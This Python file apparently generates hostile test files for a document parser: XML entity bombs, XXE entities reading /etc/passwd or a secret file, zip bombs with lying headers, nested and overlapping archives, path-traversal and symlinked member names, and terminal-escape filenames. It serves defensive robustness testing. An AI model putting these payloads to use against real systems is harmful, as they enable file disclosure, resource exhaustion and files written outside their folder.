# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile DOCX, ODT, XLSX and ODS files and ZIP archives: bombs, lies, names that lead out, circles.

Each function yields (name, content). `home` is the folder of files that nobody may look into.
"""

import gzip
import io
import lzma
import struct
import tarfile

import packages
from packages import KINDS, MAIN, MAKERS, SAY, TITLE, docx, ods, odt, paragraph, relations, word_document, xlsx
from zipping import LOCAL, STORED, SYMBOLIC_LINK, Member, deflate_run, end_of, pack, pack_files

TEN_GIGABYTES = 10_000
# (stem, text between the declaration and the root element, text of the document): XML that grows or reaches out.
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))


def entities(home):
    secret = f"file://{home}/secret.txt"
    yield "laughs", f'<!DOCTYPE d [<!ENTITY a0 "哈哈哈哈哈哈哈哈">{LAUGHS}]>', "&a10;"
    yield "quadratic", f'<!DOCTYPE d [<!ENTITY a "{"哈" * 60_000}">]>', "&a;" * 60_000
    yield "entity-file", f'<!DOCTYPE d [<!ENTITY a SYSTEM "{secret}">]>', "&a;"
    yield "entity-passwd", '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"
    yield "entity-http", '<!DOCTYPE d [<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]>', "&a;"
    yield "parameter-entity", f'<!DOCTYPE d [<!ENTITY % a SYSTEM "{secret}"><!ENTITY % b "<!ENTITY c SYSTEM \'http://127.0.0.1:9/?%a;\'>">%b;]>', "&c;"
    yield "outer-dtd", f'<!DOCTYPE d SYSTEM "{secret}">', "文"
    yield "circular-entity", '<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"
    yield "entity-in-attribute", f'<!DOCTYPE d [<!ENTITY a0 "aaaaaaaa">{LAUGHS}]>', '<x y="&a10;"/>'
    include = f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
    yield "xinclude", f'<?xml-stylesheet type="text/xsl" href="{secret}"?>', include


def spoilt_xml(home):
    for kind in KINDS:
        for name, start, text in entities(home):
            yield f"xml-{name}.{kind}", pack_files(MAKERS[kind](SAY[kind](text), start))
    deep = 1_000_000
    for kind in ("docx", "odt"):
        yield f"deep.{kind}", pack_files(MAKERS[kind]("<a>" * deep + "</a>" * deep))
        yield f"deep-unclosed.{kind}", pack_files(MAKERS[kind]("<a>" * deep))
    table = "<w:tbl><w:tr><w:tc>"
    yield "tables-in-tables.docx", pack_files(docx(table * 50_000 + paragraph("3") + "</w:tc></w:tr></w:tbl>" * 50_000))
    box = "<w:p><w:r><w:pict><w:txbxContent>"
    yield "boxes-in-boxes.docx", pack_files(docx(box * 30_000 + paragraph("3") + "</w:txbxContent></w:pict></w:r></w:p>" * 30_000))
    open_table = '<table:table><table:table-row><table:table-cell>'
    yield "tables-in-tables.odt", pack_files(odt(open_table * 50_000 + "</table:table-cell></table:table-row></table:table>" * 50_000))
    yield "frames-in-frames.odt", pack_files(odt("<draw:frame><draw:text-box><text:p>" * 30_000 + "</text:p></draw:text-box></draw:frame>" * 30_000))
    attributes = "".join(f' a{n}="{n}"' for n in range(200_000))
    yield "attributes.docx", pack_files(docx(f"<w:p{attributes}/>"))
    yield "long-attribute.docx", pack_files(docx(f'<w:p w:x="{"九" * 4_000_000}"/>'))
    yield "long-name.odt", pack_files(odt(f"<{'n' * 9_000_000}/>"))
    yield "namespaces.docx", pack_files(docx("".join(f'<a{n} xmlns:p{n}="u{n}">' for n in range(30_000))))
    yield "long-text.docx", pack_files(docx(paragraph("文" * 6_000_000)))
    yield "a-million-runs.docx", pack_files(docx("<w:p>" + "<w:r><w:t>1</w:t></w:r>" * 1_000_000 + "</w:p>"))
    yield "a-million-paragraphs.docx", pack_files(docx(paragraph("1") * 1_000_000))
    yield "comments-everywhere.docx", pack_files(docx("<!-- -->" * 1_000_000 + "<?p?>" * 1_000_000))
    for encoding in ("UTF-16", "UTF-32", "UTF-7", "IBM037", "x-none", "GB18030"):
        text = word_document(paragraph(TITLE)).replace("UTF-8", encoding)
        yield f"says-{encoding}.docx", pack_files(dict(docx(), **{"word/document.xml": text}))
    yield "broken-utf-8.docx", pack_files(dict(docx(), **{"word/document.xml": word_document(paragraph("@@")).encode().replace(b"@@", b"\xff\xc0\x80")}))
    yield "not-xml.docx", pack_files(dict(docx(), **{"word/document.xml": bytes(range(256)) * 64}))
    yield "empty-part.docx", pack_files(dict(docx(), **{"word/document.xml": ""}))
    yield "control-characters.docx", pack_files(docx(paragraph("&#0;&#1;&#xFFFF;&#x110000;&#xD800;")))


def spans():
    """Tables that claim to be larger than any memory."""
    for name, value in (("huge", 2**31 - 1), ("wraps", 2**32 + 1), ("negative", -1), ("zero", 0), ("no-number", "x"), ("long", 10**40)):
        cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{value}"/><w:vMerge/></w:tcPr>{paragraph("3")}</w:tc>'
        yield f"span-{name}.docx", pack_files(docx(f'<w:tbl><w:tr><w:trPr><w:gridBefore w:val="{value}"/></w:trPr>{cell}</w:tr></w:tbl>'))
        repeats = f'table:number-columns-repeated="{value}" table:number-columns-spanned="{value}" table:number-rows-spanned="{value}"'
        row = f'<table:table-row table:number-rows-repeated="{value}"><table:table-cell {repeats}><text:p>3</text:p></table:table-cell></table:table-row>'
        yield f"span-{name}.ods", pack_files(ods(row))
        yield f"span-{name}.odt", pack_files(odt(f'<table:table>{row}</table:table><text:p>一<text:s text:c="{value}"/>二</text:p>'))
        cells = f'<row r="{value}" spans="1:{value}"><c r="A{value}"><v>3</v></c><c r="ZZZZZZ9"><v>4</v></c><c r="A1" t="s"><v>{value}</v></c></row>'
        yield f"place-{name}.xlsx", pack_files(xlsx(cells, f'<dimension ref="A1:XFD{value}"/>'))
    wide = '<w:tc><w:tcPr><w:gridSpan w:val="60"/></w:tcPr></w:tc>' * 60
    yield "spans-multiply.docx", pack_files(docx("<w:tbl>" + f"<w:tr>{wide}</w:tr>" * 2000 + "</w:tbl>"))
    merged = '<mergeCells count="60000">' + '<mergeCell ref="A1:XFD1048576"/>' * 60_000 + "</mergeCells>"
    yield "merges-over-all.xlsx", pack_files(xlsx(f'<row r="1">{packages.inline("A1", "3")}</row>', behind=merged))
    apart = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, 60_000))
    yield "merges-of-rows.xlsx", pack_files(xlsx(None, behind=f"<mergeCells>{apart}</mergeCells>"))
    yield "corners.xlsx", pack_files(xlsx(f'<row r="1">{packages.inline("A1", "3")}</row><row r="1048576">{packages.inline("XFD1048576", "4")}</row>'))
    diagonal = "".join(f'<row r="{n}">{packages.inline(f"{column(n)}{n}", "1")}</row>' for n in range(1, 16_000))
    yield "diagonal.xlsx", pack_files(xlsx(diagonal))
    yield "rows-backwards.xlsx", pack_files(xlsx("".join(f'<row r="{n}">{packages.inline(f"B{n}", "1")}</row>' for n in range(30_000, 0, -1))))
    yield "same-cell-again.xlsx", pack_files(xlsx(f'<row r="1">{packages.inline("A1", "3") * 200_000}</row>'))
    strings = f'<sst xmlns="{packages.SHEET}" count="1" uniqueCount="1"><si><t>{"长" * 60_000}</t></si></sst>'
    rows = "".join(f'<row r="{n}">' + "".join(f'<c r="{column(k)}{n}" t="s"><v>0</v></c>' for k in range(1, 30)) + "</row>" for n in range(1, 2000))
    yield "one-string-sixty-thousand-times.xlsx", pack_files(dict(xlsx(rows), **{"xl/sharedStrings.xml": strings, "xl/_rels/workbook.xml.rels": relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml", ""), ("rId2", "sharedStrings", "sharedStrings.xml", ""))}))
    date = '<c r="A1" s="0"><v>1e308</v></c><c r="B1"><v>-1e308</v></c><c r="C1"><v>nan</v></c><c r="D1"><v>1e-400</v></c>'
    yield "absurd-numbers.xlsx", pack_files(xlsx(f'<row r="1">{date}</row>'))
    sheets = "".join(f'<sheet name="{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 20_000))
    book = f'<workbook xmlns="{packages.SHEET}" xmlns:r="{packages.RELATION}"><sheets>{sheets}</sheets></workbook>'
    yield "one-sheet-twenty-thousand-times.xlsx", pack_files(dict(xlsx(), **{"xl/workbook.xml": book}))
    dense = "<row>" + "<c><v>1</v></c>" * 2000 + "</row>"
    yield "a-million-cells.xlsx", pack_files(xlsx(dense * 500))


def column(number):
    name = ""
    while number:
        number, rest = divmod(number - 1, 26)
        name = chr(65 + rest) + name
    return name


def circles(home):
    """Parts that are missing, doubled, or lead to each other or out of the file."""
    for kind in KINDS:
        for part in MAKERS[kind]():
            files = MAKERS[kind]()
            del files[part]
            if files:
                yield f"without-{part.strip('[_').replace('/', '-')}.{kind}", pack_files(files)
        main, files = MAIN[kind], MAKERS[kind]()
        members = [Member(name, text.encode("utf-8")) for name, text in files.items()]
        yield f"main-part-twice.{kind}", pack(members + [Member(main, b"<x/>"), Member(main.upper(), b"<x/>"), Member("./" + main, b"<x/>")])
        links = [Member(name, text.encode("utf-8")) for name, text in files.items() if name != main]
        yield f"main-part-is-a-link.{kind}", pack([*links, Member(main, b"/etc/passwd", STORED, mode=SYMBOLIC_LINK)])
        yield f"main-part-is-a-folder.{kind}", pack([*links, Member(main + "/", b"", STORED, mode=0o40755 << 16)])
        yield f"main-part-is-a-device.{kind}", pack([*links, Member(main, b"", STORED, mode=0o20666 << 16)])
    for name, target in (
        ("itself", "_rels/.rels"), ("up", "../../../../../../etc/passwd"), ("absolute", "/etc/passwd"), ("file", f"file://{home}/secret.txt"),
        ("http", "http://127.0.0.1:9/a"), ("share", "\\\\\\\\127.0.0.1\\\\a"), ("empty", ""), ("long", "a/" * 40_000), ("percent", "%2e%2e/%2e%2e/etc/passwd"),
    ):
        for mode in ("", ' TargetMode="External"'):
            files = dict(docx(), **{"_rels/.rels": relations(("rId1", "officeDocument", target, mode))})
            yield f"document-is-{name}{'-outside' if mode else ''}.docx", pack_files(files)
    parts = relations(*((f"rId{n}", kind, f"file://{home}/secret.txt", ' TargetMode="External"') for n, kind in enumerate(
        ("attachedTemplate", "image", "oleObject", "subDocument", "aFChunk", "frame", "styles", "numbering", "footnotes", "comments"))))
    body = paragraph(TITLE) + '<w:subDoc r:id="rId3"/><w:altChunk r:id="rId4"/>'
    yield "all-parts-outside.docx", pack_files(dict(docx(body), **{"word/_rels/document.xml.rels": parts}))
    styles = "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 9}"/></w:style>' for n in range(9))
    yield "styles-in-a-circle.docx", word_with("styles", f'<w:styles xmlns:w="{packages.WORD}">{styles}</w:styles>', '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr></w:p>')
    chain = "".join(f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{n + 1}"/></w:style>' for n in range(60_000))
    yield "styles-in-a-chain.docx", word_with("styles", f'<w:styles xmlns:w="{packages.WORD}">{chain}</w:styles>', '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr></w:p>' * 9_000)
    numbers = f'<w:numbering xmlns:w="{packages.WORD}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="s0"/><w:lvl w:ilvl="4000000000"><w:start w:val="99999999999999"/>' \
        f'<w:numFmt w:val="chineseCounting"/><w:lvlText w:val="{"%1%9%0%99" * 9000}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="-5"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p><w:p><w:pPr><w:numPr><w:ilvl w:val="4000000000"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>'
    yield "numbering-lies.docx", word_with("numbering", numbers, listed * 3000)
    level = f'<w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="{"%1" * 5000}"/></w:lvl>'
    long_numbers = f'<w:numbering xmlns:w="{packages.WORD}"><w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    yield "numbers-that-grow.docx", word_with("numbering", long_numbers, '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr></w:p>' * 60_000)
    note = f'<w:footnotes xmlns:w="{packages.WORD}"><w:footnote w:id="2"><w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote></w:footnotes>'
    yield "note-within-itself.docx", word_with("footnotes", note, '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>' * 9)
    long_note = f'<w:footnotes xmlns:w="{packages.WORD}"><w:footnote w:id="2">{paragraph("注" * 100_000)}</w:footnote></w:footnotes>'
    yield "one-note-a-hundred-thousand-times.docx", word_with("footnotes", long_note, "<w:p>" + '<w:r><w:footnoteReference w:id="2"/></w:r>' * 100_000 + "</w:p>")
    fields = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "{0}/secret.txt"</w:instrText></w:r>'.format(home)
    yield "fields-never-end.docx", pack_files(docx("<w:p>" + fields * 50_000 + "</w:p>"))
    for name, link in (("section", f'<text:section text:name="a"><text:section-source xlink:href="file://{home}/secret.txt"/></text:section>'), (
        "image", f'<text:p><draw:frame><draw:image xlink:href="../../../../../../{home}/secret.txt"/></draw:frame></text:p>')):
        yield f"linked-{name}.odt", pack_files(odt(link + f"<text:p>{TITLE}</text:p>"))
    yield "says-it-is-encrypted.odt", pack_files(dict(odt(), **{"META-INF/manifest.xml": odt()["META-INF/manifest.xml"].replace(
        'media-type="text/xml"/>', 'media-type="text/xml"><manifest:encryption-data manifest:checksum="x"/></manifest:file-entry>')}))


def word_with(part, content, body):
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    files = docx(body)
    files["[Content_Types].xml"] = packages.content_types(**{MAIN["docx"]: f"{kind}.document.main+xml", f"word/{part}.xml": f"{kind}.{part}+xml"})
    files["word/_rels/document.xml.rels"] = relations(("rId1", part, f"{part}.xml", ""))
    files[f"word/{part}.xml"] = content
    return pack_files(files)


def bombs():
    """Ten gigabytes in ten megabytes, with and without a lie about it; archives in archives; parts that overlap."""
    for kind in KINDS:
        files, main = MAKERS[kind](), MAIN[kind]
        before = files[main].encode("utf-8")[:-30]
        others = [Member(name, text.encode("utf-8")) for name, text in files.items() if name != main]
        for name, size in (("says-so", 0xFFFFFFFF), ("lies", 1000)):
            stream = deflate_run(before, b" ", TEN_GIGABYTES if name == "lies" else 3_000, b"")
            yield f"bomb-{name}.{kind}", pack([*others, Member(main, packed=stream, size=size, crc=1)])
    stream = deflate_run(b"", b"\0", 3_000, b"")
    extra = {"docx": "word/media/image1.png", "xlsx": "xl/sharedStrings.xml", "odt": "styles.xml"}
    for kind, part in extra.items():
        members = [Member(name, text.encode("utf-8")) for name, text in MAKERS[kind]().items()]
        yield f"bomb-beside-{kind}.{kind}", pack([*members, Member(part, packed=stream, size=1000, crc=1)])
    half = deflate_run(b"", b"0,", 90, b"")
    yield "bomb-of-many.zip", pack([Member(f"{n}.csv", packed=half, size=180_000_000, crc=1) for n in range(40)])
    yield "bomb-of-text.zip", pack([Member("1.txt", packed=stream, size=100, crc=1)])
    inner = pack([Member(f"{n}.txt", packed=half, size=100, crc=1) for n in range(16)])
    for level in range(6):
        inner = pack([Member(f"{level}-{n}.zip", inner) for n in range(16)] if level else [Member(f"{n}.zip", inner) for n in range(8)])
    yield "archives-in-archives.zip", inner
    inner = pack_files({"1.txt": TITLE})
    for level in range(300):
        inner = pack([Member(f"{level}.zip", inner, STORED)])
    yield "three-hundred-deep.zip", inner
    kernel = Member("a.txt", packed=deflate_run(b"", b"0", 20, b""), size=20_000_000)
    names = [Member(f"{n}.txt", packed=b"", packed_size=kernel.packed_size, size=kernel.size, crc=kernel.crc) for n in range(20_000)]
    directory = b"".join(member.central(0) for member in names)
    yield "overlapping.zip", kernel.local() + kernel.packed + directory + end_of(len(names), len(directory), len(kernel.local() + kernel.packed))
    yield "sixty-thousand-members.zip", pack([Member(f"{n}.txt", b"", STORED) for n in range(60_000)])
    main = [Member(name, text.encode("utf-8")) for name, text in docx().items()]
    yield "sixty-thousand-parts.docx", pack(main + [Member(f"word/{n}.xml", b"<a/>", STORED) for n in range(60_000)])
    yield "same-member-again.zip", pack([Member("1.txt", TITLE.encode("utf-8"))] * 5000)
    yield "bomb.txt.gz", gzip.compress(b"\0" * 100_000_000, mtime=0)
    yield "bomb.docx", gzip.compress(pack_files(docx()), mtime=0)
    yield "bomb.txt.xz", lzma.compress(b"\0" * 100_000_000)


LEADING_OUT = [
    "../../../../../../tmp/{}", "/tmp/{}", "C:\\Windows\\{}", "..\\..\\..\\{}", "\\\\127.0.0.1\\a\\{}", "a/../../../{}", "~/{}", "./././{}", "//tmp//{}", "file:///tmp/{}",
    "/etc/passwd", "/proc/self/mem", "/dev/stdin", "COM1", "", ".", "..", "/", "a\0b.txt", "a\nb.txt", "\x1b[2J\x1b]0;x\x07.txt", "\u202etxt.exe", "a" * 60_000 + ".txt", "年报/" * 9000 + "a.txt",
]


def names():
    """Archives whose members are called what should lead out of the folder or fool a terminal."""
    text = f"{TITLE}\n一、总体情况\n".encode("utf-8")
    for number, pattern in enumerate(LEADING_OUT):
        name = pattern.replace("{}", "gouji-escaped.txt")
        yield f"name-{number}.zip", pack([Member(name, text), Member("年报.txt", text)])
    yield "names-in-gbk.zip", pack([Member("年度报告.txt".encode("gbk"), text, flags=0), Member("年报\\目录.txt".encode("gbk"), text, flags=0)])
    yield "names-in-no-encoding.zip", pack([Member(b"\xff\xfe\x80.txt", text), Member(b"\x80" * 300, text)])
    yield "links.zip", pack([Member("a", b"/etc", STORED, mode=SYMBOLIC_LINK), Member("a/passwd", text), Member("b.txt", b"/etc/passwd", STORED, mode=SYMBOLIC_LINK)])
    yield "all-names.zip", pack([Member(pattern.replace("{}", f"gouji-escaped-{n}.txt"), text) for n, pattern in enumerate(LEADING_OUT)])
    yield "parts-lead-out.docx", pack([Member("../" * 9 + "tmp/gouji-escaped.xml", text)] + [Member(name, part.encode("utf-8")) for name, part in docx().items()])


def lies():
    """Archives that contradict themselves."""
    good = [Member(name, text.encode("utf-8")) for name, text in docx().items()]
    data = pack(good)
    yield "encrypted.docx", pack([Member(member.name, packed=b"x" * 40, flags=1, size=28, crc=7) for member in good])
    yield "encrypted.zip", pack([Member("年报.docx", packed=b"x" * 400, flags=1, size=388, crc=7)])
    for method in (1, 6, 9, 12, 14, 93, 95, 98, 99, 65535):
        yield f"method-{method}.docx", pack([Member(member.name, packed=b"x" * 40, method=method, size=4000, crc=7) for member in good])
    yield "wrong-sum.docx", pack([Member(member.name, packed=member.packed, size=member.size, crc=member.crc ^ 1) for member in good])
    yield "size-too-small.docx", pack([Member(member.name, packed=member.packed, size=5, crc=member.crc) for member in good])
    yield "size-too-large.docx", pack([Member(member.name, packed=member.packed, size=0xFFFFFFFE, crc=member.crc) for member in good])
    yield "packed-size-lies.docx", pack([Member(member.name, packed=member.packed, packed_size=0xFFFFFFFE, size=member.size) for member in good])
    yield "places-lie.docx", pack(good, places=[0xFFFFFFF0, 5, len(data)])
    yield "one-place-for-all.docx", pack(good, places=[0] * len(good))
    yield "counts-too-many.docx", pack(good, count=65535)
    yield "counts-none.docx", pack(good, count=0)
    yield "no-directory.docx", data[: data.rindex(b"PK\x01\x02")]
    yield "only-the-end.docx", data[-22:]
    yield "end-within-comment.docx", pack(good, comment=end_of(0, 0, 0) + b"\0" * 30)
    yield "behind-a-program.docx", b"MZ" + bytes(3000) + data
    yield "two-archives.docx", data + pack([Member("word/document.xml", b"<x/>")])
    yield "hundred-thousand-heads.docx", (LOCAL + good[0].fields() + good[0].name) * 100_000
    wide = struct.pack("<HHQQQ", 1, 24, 2**63, 2**63, 2**63)
    yield "zip64-lies.docx", pack([Member(member.name, packed=member.packed, size=0xFFFFFFFF, packed_size=0xFFFFFFFF, extra=wide) for member in good])
    yield "extra-lies.docx", pack([Member(member.name, packed=member.packed, size=member.size, crc=member.crc, extra=struct.pack("<HH", 0x7075, 65535)) for member in good])
    for cut in (10, 100, len(data) // 2, len(data) - 10):
        yield f"cut-at-{cut}.docx", data[:cut]
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, text in docx().items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text.encode("utf-8"))
            archive.addfile(entry, io.BytesIO(text.encode("utf-8")))
        for name, kind, target in (("a", tarfile.SYMTYPE, "/etc/passwd"), ("b", tarfile.LNKTYPE, "/etc/passwd"), ("c", tarfile.CHRTYPE, "")):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, target
            archive.addfile(entry)
    yield "tape-archive.docx", stream.getvalue()
    yield "tape-archive.tar", stream.getvalue()


def make(home, random):
    del random
    for part in (spoilt_xml(home), spans(), circles(home), bombs(), names(), lies()):
        yield from part
